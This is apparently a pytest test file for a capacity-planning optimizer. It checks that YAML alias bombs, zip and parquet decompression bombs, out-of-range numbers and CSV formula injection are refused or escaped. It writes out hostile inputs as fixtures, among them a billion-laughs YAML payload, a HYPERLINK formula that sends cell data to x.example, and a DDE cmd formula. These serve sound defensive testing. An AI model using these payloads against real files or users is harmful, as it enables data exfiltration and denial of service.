"""Issue 16: each kind of hostile or extreme input, fixed once, tested at its smallest case."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import numpy as np
import pytest

from capacity.dataset import load_dataset, validate_directory
from capacity.safe_yaml import MAX_YAML_NODES, YamlLimitError, compose_yaml, load_yaml
from capacity.schema import SOLVER_SAFE_MAX
from capacity.validation import DataValidationError
from optimizer.plan.model import build_model
from optimizer.plan.options import SolveOptions, Status
from optimizer.plan.pipeline import solve
from optimizer.plan.raw_solve import run_solver
from tests.lp_helpers import LP_DATA

BOMB = "\n".join(
    [
        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
        *(
            f"{x}: &{x} [{', '.join([f'*{p}'] * 9)}]"
            for p, x in zip("abcdefgh", "bcdefghi", strict=True)
        ),
        "scenarios: *i",
    ]
)


# --------------------------------------------------------------------- HiGHS refusal
def _model_with_rhs(value: float):  # type: ignore[no-untyped-def]
    model = build_model(load_dataset(LP_DATA / "lp_one"))
    cons = model.constraints.copy()
    row = int(np.flatnonzero(cons["family"].to_numpy() == "demand_balance")[0])
    cons.loc[row, "rhs"] = value
    return dataclasses.replace(model, constraints=cons)


def test_highs_refusing_a_model_is_an_error_with_its_reason() -> None:
    """A demand row of 1e20 (HiGHS's infinity as a lower bound) is refused by passModel."""
    raw = run_solver(_model_with_rhs(1e20), SolveOptions())
    assert raw.status == Status.error
    assert raw.x is None
    assert "HiGHS refused the model" in raw.message
    assert "row lower bounds of +inf" in raw.message


def test_highs_refusal_never_reads_as_optimal_in_a_plan() -> None:
    from optimizer.plan.pipeline import solve_model

    (res,) = solve_model(_model_with_rhs(1e20), SolveOptions())
    assert res.status == Status.error
    assert res.objective_usd is None
    assert "refused" in res.message


def test_highs_refusal_through_a_retained_session() -> None:
    from optimizer.plan.highs_session import HighsSession

    session = HighsSession(SolveOptions())
    raw, warm = session.run(_model_with_rhs(1e20))
    assert raw.status == Status.error and not warm
    assert "row lower bounds of +inf" in raw.message


# ------------------------------------------------------------ solver-safe numeric range
def _write_cell(d: Path, file: str, column: str, value: str) -> None:
    p = d / file
    lines = p.read_text().splitlines()
    header = lines[0].split(",")
    cells = lines[1].split(",")
    cells[header.index(column)] = value
    lines[1] = ",".join(cells)
    p.write_text("\n".join(lines) + "\n")


def test_demand_beyond_the_safe_range_is_refused_at_its_cell(tiny_dir: Path) -> None:
    _write_cell(tiny_dir, "demand.csv", "demand_h100e", "1e20")
    errors = [f for f in validate_directory(tiny_dir) if f.severity == "error"]
    assert len(errors) == 1
    (f,) = errors
    assert (f.file, f.row, f.column, f.value) == ("demand.csv", 2, "demand_h100e", "1e20")
    assert f"at most {SOLVER_SAFE_MAX:g}" in f.message


def test_the_safe_range_bound_itself_is_accepted(tiny_dir: Path) -> None:
    _write_cell(tiny_dir, "demand.csv", "demand_h100e", "1e12")
    assert not [f for f in validate_directory(tiny_dir) if f.severity == "error"]


def test_integer_beyond_64_bits_is_refused_with_the_value_as_written(tiny_dir: Path) -> None:
    _write_cell(tiny_dir, "chips.csv", "lifetime_periods", "99999999999999999999")
    errors = [f for f in validate_directory(tiny_dir) if f.severity == "error"]
    assert len(errors) == 1
    (f,) = errors
    assert (f.file, f.row, f.column) == ("chips.csv", 2, "lifetime_periods")
    assert f.value == "99999999999999999999"
    assert "too large for a 64-bit integer" in f.message


# ------------------------------------------------------------------------- YAML bombs
def test_alias_bomb_is_refused_quickly() -> None:
    with pytest.raises(YamlLimitError, match="expand to more than 100,000 items") as e:
        load_yaml(BOMB)
    assert e.value.line is not None
    with pytest.raises(YamlLimitError):
        compose_yaml(BOMB)


def test_recursive_alias_and_deep_nesting_are_refused() -> None:
    with pytest.raises(YamlLimitError, match="recursive"):
        load_yaml("a: &a [*a]\n")
    with pytest.raises(YamlLimitError, match="too deeply"):
        load_yaml("[" * 50_000)


def test_ordinary_aliases_still_load() -> None:
    doc = load_yaml("base: &b {source: assumption}\nx: *b\n")
    assert doc == {"base": {"source": "assumption"}, "x": {"source": "assumption"}}
    assert MAX_YAML_NODES >= 10_000


@pytest.mark.parametrize("file", ["scenarios.yaml", "dataset.yaml"])
def test_alias_bomb_in_a_dataset_yaml_is_a_finding(tiny_dir: Path, file: str) -> None:
    (tiny_dir / file).write_text(BOMB)
    with pytest.raises(DataValidationError) as e:
        load_dataset(tiny_dir)
    (f,) = e.value.errors
    assert f.file == file and f.row is not None
    assert "expand to more than" in f.message


def test_alias_bomb_in_a_sweep_file_is_a_finding(tmp_path: Path) -> None:
    from optimizer.analysis.sweep_errors import SweepSpecError
    from optimizer.analysis.sweep_read import load_sweep

    p = tmp_path / "sweep.yaml"
    p.write_text(BOMB)
    with pytest.raises(SweepSpecError, match="expand to more than"):
        load_sweep(p)


def test_non_utf8_sweep_file_is_a_finding(tmp_path: Path) -> None:
    from optimizer.analysis.sweep_errors import SweepSpecError
    from optimizer.analysis.sweep_read import load_sweep

    p = tmp_path / "sweep.yaml"
    p.write_bytes(b"data: \xff\xfe\n")
    with pytest.raises(SweepSpecError, match="not UTF-8"):
        load_sweep(p)


def test_solve_refused_model_end_to_end_is_not_optimal() -> None:
    """The whole pipeline on a valid dataset still solves (no false refusal)."""
    res = solve(load_dataset(LP_DATA / "lp_one"))
    assert res.status == Status.optimal


# ------------------------------------------------------------------ scenario overrides
SCALE_DEMAND = """scenarios:
  typo:
    description: an override
    overrides:
      - op: scale
        table: demand
        column: demand_h100e
        where: {{customer: {customer}}}
        factor: {factor}
        source: assumption
"""


def test_factor_nan_is_reported_once_at_its_yaml_line(tiny_dir: Path) -> None:
    (tiny_dir / "scenarios.yaml").write_text(SCALE_DEMAND.format(customer="acme", factor="nan"))
    findings = validate_directory(tiny_dir)
    assert len(findings) == 1, findings
    (f,) = findings
    assert (f.severity, f.file, f.row) == ("error", "scenarios.yaml", 9)
    assert f.column == "scenarios.typo.overrides[0].factor"
    assert "factor must be a finite number" in f.message


@pytest.mark.parametrize("factor", ["inf", "-inf", "1e400", "1e13"])
def test_factor_not_finite_or_beyond_the_safe_range_is_refused(tiny_dir: Path, factor: str) -> None:
    (tiny_dir / "scenarios.yaml").write_text(SCALE_DEMAND.format(customer="acme", factor=factor))
    (f,) = validate_directory(tiny_dir)
    assert f.row == 9 and "factor must be" in f.message


def test_shift_by_an_absurd_number_of_periods_is_refused(tiny_dir: Path) -> None:
    text = (tiny_dir / "scenarios.yaml").read_text()
    (tiny_dir / "scenarios.yaml").write_text(
        text.replace("periods: 1", "periods: 99999999999999999999")
    )
    (f,) = validate_directory(tiny_dir)
    assert f.file == "scenarios.yaml" and f.row == 18
    assert "periods must be within ±400 quarters" in f.message


def test_where_matching_no_row_is_a_finding_with_did_you_mean(tiny_dir: Path) -> None:
    (tiny_dir / "scenarios.yaml").write_text(SCALE_DEMAND.format(customer="ACME", factor="0.5"))
    (f,) = validate_directory(tiny_dir)
    assert (f.severity, f.file, f.row) == ("error", "scenarios.yaml", 8)
    assert f.value == "customer=ACME"
    assert "customer 'ACME' is not in demand" in f.message
    assert "Did you mean 'acme'?" in f.message


def test_a_misspelt_value_in_a_where_list_is_a_finding_though_the_others_match(
    tiny_dir: Path,
) -> None:
    """[acme, acmee]: acme's rows match, so the typo used to pass silently."""
    text = SCALE_DEMAND.format(customer="[acme, acmee]", factor="0.5")
    (tiny_dir / "scenarios.yaml").write_text(text)
    (f,) = validate_directory(tiny_dir)
    assert (f.severity, f.file, f.row) == ("error", "scenarios.yaml", 8)
    assert f.value == "customer=acme|acmee"
    assert f.message.startswith("changes only part of what it names: customer 'acmee'")
    assert "Did you mean 'acme'?" in f.message
    clean = SCALE_DEMAND.format(customer="[acme]", factor="0.5")
    (tiny_dir / "scenarios.yaml").write_text(clean)
    assert validate_directory(tiny_dir) == []


def test_applied_override_matching_no_row_raises_with_did_you_mean(tiny_dir: Path) -> None:
    from capacity.scenarios import apply_overrides

    ds = load_dataset(tiny_dir)
    ov = {
        "op": "scale",
        "table": "demand",
        "column": "demand_h100e",
        "where": {"customer": "acm"},
        "factor": 2,
    }
    with pytest.raises(DataValidationError) as e:
        apply_overrides(ds, [ov])
    (f,) = e.value.errors
    assert f.column == "overrides[0].where"
    assert "Did you mean 'acme'?" in f.message
    window = {**ov, "where": {"customer": "acme"}, "from_period": "2030Q1"}
    with pytest.raises(DataValidationError, match="no row of demand matches") as e:
        apply_overrides(ds, [window])
    # the rows and the window are said in words (it read "{'customer': ('acme',)} in
    # 2030Q1.....")
    assert "matches where customer 'acme' from 2030Q1 on" in e.value.errors[0].message


# ------------------------------------------------------------------------- zip bombs
def _understated_zip(actual_bytes: int, declared: int = 1000) -> bytes:
    """A zip whose demand.csv inflates to ``actual_bytes`` but declares ``declared``."""
    import io
    import struct
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("demand.csv", b"0" * actual_bytes)
    data = bytearray(buf.getvalue())
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, local + 22, declared)  # uncompressed size, local header
    struct.pack_into("<I", data, central + 24, declared)  # and in the central directory
    return bytes(data)


def test_zip_member_understating_its_size_is_streamed_with_a_cap() -> None:
    import tracemalloc

    from ui.upload import UploadedFile, UploadError, dataset_from_upload

    blob = _understated_zip(200 * 1024 * 1024)
    assert len(blob) < 1024 * 1024
    tracemalloc.start()
    try:
        with pytest.raises(UploadError, match="bomb.zip"):
            dataset_from_upload([UploadedFile("bomb.zip", blob)], None)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 16 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB while refusing the zip"


def test_zip_over_the_byte_cap_with_honest_sizes_is_refused_before_reading() -> None:
    import io
    import zipfile

    from ui.upload import UploadedFile, UploadError, dataset_from_upload

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("demand.csv", b"0" * (51 * 1024 * 1024))
    with pytest.raises(UploadError, match="unpacks to 51.0 MB; the limit is 50 MB"):
        dataset_from_upload([UploadedFile("big.zip", buf.getvalue())], None)


def test_parquet_that_unpacks_beyond_the_limit_is_refused(tmp_path: Path) -> None:
    import pandas as pd

    from capacity.dataset import load_dataset as load
    from ui.upload import UploadedFile, UploadError, dataset_from_upload

    p = tmp_path / "demand.parquet"
    rows = [f"{i:08d}" + "x" * 300 for i in range(200_000)]  # 62 MB of distinct cells
    pd.DataFrame({"customer": rows}).to_parquet(p, compression="zstd")
    assert p.stat().st_size < 1024 * 1024
    current = load(LP_DATA / "lp_one")
    with pytest.raises(UploadError, match="once unpacked; the limit is 50 MB"):
        dataset_from_upload([UploadedFile("demand.parquet", p.read_bytes())], current)


def test_app_server_carries_files_up_to_the_transport_cap_above_the_app_limit() -> None:
    from capacity.limits import MAX_TRANSPORT_MB, MAX_UPLOAD_MB
    from optimizer.cli.app import app_command

    cmd = app_command(8501, "localhost", True)
    i = cmd.index("--server.maxUploadSize")
    # the server carries what the uploader lets through (200 MB); the app refuses above 50
    assert cmd[i + 1] == str(MAX_TRANSPORT_MB) == "200"
    assert MAX_UPLOAD_MB == 50


# ----------------------------------------------------------------------------- run IDs
def test_two_reports_in_the_same_second_get_distinct_run_ids(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from datetime import UTC, datetime

    from optimizer.output import report, run_folder
    from optimizer.output.manifest import read_manifest
    from tests.test_report import fake_result

    monkeypatch.setattr(run_folder, "_utc_now", lambda: datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC))
    first = report.write_report(fake_result(objective_usd=1.0), tmp_path, scenario="neutral")
    second = report.write_report(fake_result(objective_usd=2.0), tmp_path, scenario="neutral")
    assert first.name == "20260102T030405Z-01234567"
    assert second.name == "20260102T030405Z-01234567-2"
    assert read_manifest(first)["scenarios"]["neutral"]["objective_usd"] == 1.0
    assert read_manifest(second)["scenarios"]["neutral"]["objective_usd"] == 2.0


# ------------------------------------------------------------------- formula injection
def test_dataset_download_escapes_formula_cells_and_reads_back_the_same(tiny_dir: Path) -> None:
    import io
    import zipfile

    import pandas as pd

    from ui.dataio import dataset_zip_bytes
    from ui.upload import UploadedFile, dataset_from_upload

    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    ds = load_dataset(tiny_dir)
    customers = ds.table("customers").assign(display_name=[evil])
    ds = ds.replace(customers=customers)
    blob = dataset_zip_bytes(ds)
    with zipfile.ZipFile(io.BytesIO(blob)) as zf:
        text = zf.read("customers.csv").decode()
    cell = pd.read_csv(io.StringIO(text), dtype=str)["display_name"].iloc[0]
    assert cell == "'" + evil
    back = dataset_from_upload([UploadedFile("d.zip", blob)], None)
    assert back.table("customers")["display_name"].iloc[0] == evil
    assert back.hash == ds.hash


def test_escape_leaves_numbers_alone_and_is_reversible() -> None:
    import pandas as pd

    from capacity.csv_safe import escape_formula_cells, unescape_formula_cells

    df = pd.DataFrame({"id": ["+1", "@a", "-x", "'=y", "ok", "\tz"], "v": [-1.5, 2, 3, 4, 5, 6]})
    esc = escape_formula_cells(df)
    assert esc["id"].tolist() == ["'+1", "'@a", "'-x", "''=y", "ok", "'\tz"]
    assert esc["v"].tolist() == df["v"].tolist()
    pd.testing.assert_frame_equal(unescape_formula_cells(esc), df)


EVIL_SCENARIOS = """scenarios:
  "=cmd|' /C calc'!A0":
    description: a scenario named like a formula (and invalid data)
    overrides:
      - {op: set, table: sites, column: pue_air, where: {site: dc-1}, value: 0.5}
"""


def test_batch_summary_escapes_formula_cells(tiny_dir: Path, tmp_path: Path) -> None:
    from optimizer.analysis.batch import run_batch

    (tiny_dir / "scenarios.yaml").write_text(EVIL_SCENARIOS)
    sweep = tmp_path / "sweep.yaml"
    sweep.write_text(f"data: {tiny_dir}\nscenarios: [\"=cmd|' /C calc'!A0\"]\n")
    r = run_batch(sweep, tmp_path / "out", progress=False)
    assert r.n_failed == 1  # invalid data: no cluster is started
    lines = (tmp_path / "out" / "batch_summary.csv").read_text().splitlines()
    name, kind, sweep, rest = lines[1].split(",", 3)
    assert (name, kind) == ("'=cmd|' /C calc'!A0", "scenario")
    assert len(sweep) == 12 and rest.startswith("failed,invalid_data")  # the sweep's id


# ---------------------------------------------------------------- validation at scale
def _duplicate_demand(d: Path, n: int) -> None:
    lines = (d / "demand.csv").read_text().splitlines()
    (d / "demand.csv").write_text("\n".join(lines + [lines[1]] * n) + "\n")


def test_20k_duplicate_rows_are_checked_fast_and_each_names_its_first_row(
    tiny_dir: Path,
) -> None:
    import time

    from capacity.dataset import read_table_file
    from capacity.parsing import parse_table
    from capacity.schema import SPECS
    from capacity.table_checks import check_keys

    _duplicate_demand(tiny_dir, 20_000)
    raw = read_table_file(tiny_dir / "demand.csv")
    df, _ = parse_table(SPECS["demand"], raw, "demand.csv")
    t0 = time.perf_counter()
    found = check_keys(SPECS["demand"], df, "demand.csv")
    elapsed = time.perf_counter() - t0
    assert len(found) == 20_000
    assert found[0].row == len(raw) + 2 - 20_000  # first duplicate, after the original rows
    assert found[-1].row == len(raw) + 1
    assert all("the same key as row 2" in f.message for f in found)
    assert elapsed < 2.0, f"check_keys took {elapsed:.1f} s"


def test_case_variant_duplicate_still_names_the_first_spelling(tiny_dir: Path) -> None:
    from capacity.dataset import read_table_file
    from capacity.parsing import parse_table
    from capacity.schema import SPECS
    from capacity.table_checks import check_keys

    lines = (tiny_dir / "demand.csv").read_text().splitlines()
    (tiny_dir / "demand.csv").write_text(
        "\n".join([*lines, " ACME" + lines[1][len("acme") :]]) + "\n"
    )
    df, _ = parse_table(SPECS["demand"], read_table_file(tiny_dir / "demand.csv"), "demand.csv")
    (f,) = check_keys(SPECS["demand"], df, "demand.csv")
    assert f.row == len(lines) + 1 and f.value.startswith(" ACME/")
    assert "same as 'acme'/'training'/'2026Q1'/'' on row 2 once case" in f.message


def test_key_check_row_by_row_and_grouped_give_the_same_findings(monkeypatch) -> None:
    """The small-table path (a dictionary pass) and the grouped path agree cell for cell.

    Key cells are text, as ``parse_table`` leaves them (an empty cell is ``""``), and mix
    case, surrounding spaces and tabs, so every normalisation ``check_keys`` applies is
    exercised on both paths.
    """
    import pandas as pd

    import capacity.table_checks as tc
    from capacity.parsing import parse_table
    from capacity.schema import SPECS

    rng = np.random.default_rng(7)
    words = ["acme", "ACME", " acme", "acme\t", "", "Zeta", "zeta ", "2026Q1", "2026q1"]
    spec = SPECS["demand"]
    for trial in range(30):
        n = int(rng.integers(1, 60))
        df = pd.DataFrame(
            {c: [words[i] for i in rng.integers(0, len(words), n)] for c in spec.key},
            dtype=object,
        )
        if trial % 3 == 0:  # through the parser: typed as validation types them
            raw = df.assign(demand_h100e="1")
            df, _ = parse_table(spec, raw, "demand.csv")
        small = tc.check_keys(spec, df, "demand.csv")
        monkeypatch.setattr(tc, "SMALL_TABLE_ROWS", 0)
        grouped = tc.check_keys(spec, df, "demand.csv")
        monkeypatch.setattr(tc, "SMALL_TABLE_ROWS", 5_000)
        assert [str(f) for f in small] == [str(f) for f in grouped], trial
        assert [(f.row, f.column, f.value) for f in small] == [
            (f.row, f.column, f.value) for f in grouped
        ], trial
        if trial == 0:
            assert small, "the draw has duplicates"


def test_cli_validate_caps_its_listing_and_counts_the_rest(tiny_dir: Path) -> None:
    from typer.testing import CliRunner

    from optimizer.cli.commands import app

    _duplicate_demand(tiny_dir, 20_000)
    res = CliRunner().invoke(app, ["validate", str(tiny_dir), "--max-findings", "50"])
    assert res.exit_code == 1
    assert "... and 19,950 more finding(s) not shown (19,950 error(s), 0 warning(s))" in res.output
    assert "20000 error(s), 0 warning(s)" in res.output
    assert res.output.count("duplicate key") == 50


def test_a_scenario_named_all_is_an_error_since_the_word_selects_every_scenario() -> None:
    from capacity.scenario_spec import parse_scenarios

    doc = {"scenarios": {"All": {"overrides": []}, "neutral": {"overrides": []}}}
    scenarios, findings = parse_scenarios(doc)
    assert list(scenarios) == ["neutral"]
    (f,) = findings
    assert (f.severity, f.column, f.value) == ("error", "scenarios.All", "All")
    assert "--scenario all means every scenario" in f.message
